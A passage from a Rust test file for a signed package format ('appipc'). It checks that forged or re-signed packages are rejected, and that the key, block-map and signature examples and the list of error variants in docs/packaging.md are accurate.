    let err = read_all(&forged).unwrap_err();
    assert!(matches!(err, PackageFileError::BadSignature { .. }), "{err}");
    let err = read_all(&resign(&forged).unwrap()).unwrap_err();
    assert!(matches!(&err, PackageFileError::HashMismatch { path } if path == "bin/app"), "{err}");
    assert_eq!(fuzz_read_resigned(&forged), Some(false));
}

/// The examples in `docs/packaging.md` are real: the key files parse and agree, the signature
/// verifies over the block map shown, and every refusal a reader can make is in its table.
#[test]
fn the_format_document_is_true() {
    let doc = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/packaging.md"));
    let fenced = |starts: &str| -> String {
        let at = doc.find(starts).unwrap_or_else(|| panic!("docs/packaging.md lacks {starts:?}"));
        let end = doc[at..].find("```").expect("closing fence");
        doc[at..at + end].to_owned()
    };
    let public: PublicKey = fenced("# appipc public key ").parse().unwrap();
    assert!(fenced("# appipc public key ").contains(&public.id().to_string()));
    let secret_text = fenced("# appipc secret key ");
    let secret = SecretKey::from_file_text(&secret_text).unwrap();
    assert_eq!(secret.public_key(), public);

    let map_text = fenced("appipc-block-map 1\ncbc8");
    let map = BlockMap::parse(map_text.as_bytes(), &Limits::default()).unwrap();
    assert_eq!(map.len(), 2);
    let sig =
        PackageSignature::parse(fenced("format = \"appipc-signature-1\"").as_bytes()).unwrap();
    assert_eq!(sig.signer, public);
    assert!(sig.verifies(map_text.as_bytes()), "the documented signature verifies");

    for variant in [
        "MissingBlockMap",
        "Unsigned",
        "BadSignatureFile",
        "BadSignature",
        "BadBlockMap",
        "ManifestMissing",
        "ManifestNotThird",
        "ForbiddenEntry",
        "BadPath",
        "DuplicateEntry",
        "NotInBlockMap",
        "MissingFromArchive",
        "SizeMismatch",
        "ModeMismatch",
        "HashMismatch",
        "TooManyFiles",
        "TooLarge",
        "ManifestTooLarge",
        "MetadataTooLarge",
        "BadHeader",
        "BadArchive",
        "Truncated",
    ] {
        assert!(doc.contains(&format!("`{variant}`")), "docs/packaging.md does not name {variant}");
    }
}
